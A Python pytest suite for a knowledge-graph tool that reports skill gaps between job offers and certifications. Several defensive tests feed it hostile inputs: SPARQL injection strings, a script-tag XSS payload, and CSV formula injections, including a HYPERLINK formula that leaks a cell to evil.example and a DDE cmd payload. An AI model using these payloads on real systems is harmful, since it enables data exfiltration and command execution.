"""Skill gaps (kg.gaps, queries/reports, ``kg gaps``) on a hand-built graph whose gaps are known.

The fixture (tests/fixtures/gaps/graph.ttl) is described in its header; the expected figures
below were worked out by hand from it.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

from kg.cli import app
from kg.derive import load_rules, run_rule
from kg.gaps import ScopeError, resolve_scope, resolve_territory, trade_gaps
from kg.gaps_report import RENDERERS, render_html
from kg.queries import ParameterError, named_query
from kg.store import StoreLayout
from tests.conftest import ROOT, TEST_BASE

FIXTURE = ROOT / "tests" / "fixtures" / "gaps" / "graph.ttl"
TRADE = f"{TEST_BASE}id/trade/t"


def load_fixture(graph: ox.Store) -> ox.Store:
    """The fixture graph plus the links a build derives from it (mappings/derive/target-trade-*.rq):
    the reports read a trade's offers and certifications from them."""
    graph.load(path=FIXTURE, format=ox.RdfFormat.TURTLE)
    for rule in load_rules():
        if rule.source == "target-trades":
            graph.load(run_rule(graph, rule, TEST_BASE), format=ox.RdfFormat.N_TRIPLES)
    return graph


@pytest.fixture(scope="module")
def store() -> ox.Store:
    return load_fixture(ox.Store())


def _demand(report: object) -> dict[str, tuple[float, bool, str | None]]:
    return {d.code: (d.demand, d.gap, d.bloc and d.bloc.rsplit("/", 1)[1]) for d in report.demand}  # type: ignore[attr-defined]


def test_known_gaps_ranked_by_demand(store: ox.Store) -> None:
    report = trade_gaps(store, TRADE, TEST_BASE)
    assert report.offers == 5  # o1–o4 and o6; o5's appellation is not the trade's
    assert _demand(report) == {
        "2": (0.36, True, "RNCP2BC02"),  # (0.8 + recruiter 1.0) / 5; closest bloc scores 0.4
        "1": (0.32, False, "RNCP2BC01"),  # (0.9 + 0.7) / 5, best mention per offer; covered at 0.8
        "3": (0.22, True, None),  # only the replaced RNCP1's bloc covers it
        "4": (0.18, True, None),  # the narrowed appellation's offer
    }
    assert [g.code for g in report.gaps] == ["2", "3", "4"]
    assert "5" not in _demand(report)  # the offer of another appellation of F1704 is out


def test_replaced_certification_covers_only_through_its_successor(store: ox.Store) -> None:
    report = trade_gaps(store, TRADE, TEST_BASE)
    chaux = next(d for d in report.demand if d.code == "3")
    assert chaux.gap and chaux.bloc is None and chaux.certification is None
    covered = next(d for d in report.demand if d.code == "1")
    assert covered.certification == f"{TEST_BASE}id/rncp/RNCP2"


def test_territory_and_period_restrict_the_offers(store: ox.Store) -> None:
    normandy = trade_gaps(store, TRADE, TEST_BASE, territory=f"{TEST_BASE}id/region/28")
    recent = trade_gaps(store, TRADE, TEST_BASE, since=date(2025, 1, 1))
    for report in (normandy, recent):
        assert report.offers == 4
        assert _demand(report)["2"] == (0.45, True, "RNCP2BC02")
        assert _demand(report)["3"] == (0.15, True, None)
    calvados = trade_gaps(store, TRADE, TEST_BASE, territory=f"{TEST_BASE}id/commune/14118")
    assert calvados.offers == 4


def test_evidence_emerging_and_uncovered_core(store: ox.Store) -> None:
    report = trade_gaps(store, TRADE, TEST_BASE)
    lire = report.gaps[0]
    assert [(e.offer_code, e.source, e.text) for e in lire.evidence] == [
        ("0000001", "extracted", "lecture de plans"),
        ("0000003", "recruiter-required", None),
    ]
    assert [(e.code, e.offers, e.share) for e in report.emerging] == [("beton-de-chanvre", 2, 0.4)]
    assert [(u.code, u.occupation.rsplit("/", 1)[1]) for u in report.uncovered_core] == [("3", "F1703")]


def test_threshold_min_share_and_first(store: ox.Store) -> None:
    lenient = trade_gaps(store, TRADE, TEST_BASE, threshold=0.4)
    assert [g.code for g in lenient.gaps] == ["3", "4"]  # 0.4 now covers "Lire un plan"
    top = trade_gaps(store, TRADE, TEST_BASE, min_share=0.2, first=1)
    assert [g.code for g in top.gaps] == ["2"]
    assert all(d.demand >= 0.2 for d in top.demand)


def test_a_fiche_alone_is_a_scope(store: ox.Store) -> None:
    report = trade_gaps(store, resolve_scope(None, "F1703", TEST_BASE), TEST_BASE)
    assert report.offers == 4 and report.label == "Maçon / Maçonne"
    assert "4" not in _demand(report)


def test_scope_and_territory_resolution_refuse_bad_input(store: ox.Store) -> None:
    with pytest.raises(ScopeError):
        resolve_scope("Eco Construction", None, TEST_BASE)
    with pytest.raises(ScopeError):
        resolve_scope(None, "F17", TEST_BASE)
    with pytest.raises(ScopeError):
        resolve_territory("planet:earth", TEST_BASE)
    with pytest.raises(ScopeError, match="not a target trade"):
        trade_gaps(store, f"{TEST_BASE}id/trade/unknown", TEST_BASE)
    assert resolve_territory("76540", TEST_BASE) == f"{TEST_BASE}id/commune/76540"
    assert resolve_territory("2805", TEST_BASE) == f"{TEST_BASE}id/zone-emploi/2805"


@pytest.mark.parametrize("hostile", ['x" } ; DROP ALL ; #', "<urn:x> ?p ?o", "\u0000"])
def test_parameters_are_validated_not_spliced(store: ox.Store, hostile: str) -> None:
    with pytest.raises(ParameterError):
        list(named_query("reports/skill-gaps").run(store, {"trade": hostile}, TEST_BASE))
    with pytest.raises(ParameterError):
        list(named_query("reports/skill-gaps").run(store, {"trade": TRADE, "since": hostile}, TEST_BASE))


def test_the_stored_query_and_the_module_agree(store: ox.Store) -> None:
    rows = list(named_query("reports/skill-gaps").run(store, {"trade": TRADE}, TEST_BASE))
    from_query = [(r["code"].value, r["gap"].value == "true") for r in rows]
    report = trade_gaps(store, TRADE, TEST_BASE)
    assert from_query == [(d.code, d.gap) for d in report.demand]


def test_html_report_escapes_source_text(store: ox.Store) -> None:
    report = trade_gaps(store, TRADE, TEST_BASE)
    report.gaps[0].evidence[0].text = "<script>alert(1)</script>"
    page = render_html([report])
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<svg" in page and "http" not in page.split("<body>")[0]  # no external asset in the head


def test_cli_report_in_every_format(store: ox.Store, tmp_path: Path) -> None:
    layout = StoreLayout(tmp_path / "store")
    with layout.new_build() as target:
        load_fixture(target.store)
    runner = CliRunner()
    env = {"PASSERELLES_BASE_IRI": TEST_BASE}
    base = ["gaps", "--trade", "t", "--store", str(tmp_path / "store")]
    result = runner.invoke(app, [*base, "--format", "json"], env=env)
    assert result.exit_code == 0, result.output
    [trade] = json.loads(result.stdout)["trades"]
    assert [g["skill"].rsplit("/", 1)[1] for g in trade["gaps"]] == ["2", "3", "4"]
    for fmt in RENDERERS:
        out = tmp_path / f"report.{fmt}"
        assert runner.invoke(app, [*base, "--format", fmt, "--output", str(out)], env=env).exit_code == 0
        assert "Lire un plan" in out.read_text(encoding="utf-8")
    bad = runner.invoke(app, [*base, "--territory", "planet:earth"], env=env)
    assert bad.exit_code == 1 and "territory" in bad.output


def test_csv_report_neutralises_formulas() -> None:
    """OWASP CSV injection: a text cell starting with = + - @ TAB or CR is written with a leading
    quote, so that a spreadsheet shows it instead of running it; numbers stay numbers."""
    graph = load_fixture(ox.Store())
    skos_label = ox.NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel")
    hostile = {
        "2": '=HYPERLINK("http://evil.example/?leak="&A1,"Lire un plan")',
        "3": "@SUM(1+1)*cmd|' /C calc'!A0",
        "1": "-2+3",
        "4": "\tBanchage",
    }
    for code, label in hostile.items():
        skill = ox.NamedNode(f"{TEST_BASE}id/competence/{code}")
        for quad in list(graph.quads_for_pattern(skill, skos_label, None)):
            graph.remove(quad)
        graph.add(ox.Quad(skill, skos_label, ox.Literal(label, language="fr")))
    report = trade_gaps(graph, TRADE, TEST_BASE)
    rows = list(csv.DictReader(io.StringIO(RENDERERS["csv"]([report]))))
    assert {r["skill_code"]: r["skill_label"] for r in rows} == {c: "'" + v for c, v in hostile.items()}
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)
    assert [float(r["demand"]) for r in rows] == [0.36, 0.32, 0.22, 0.18]
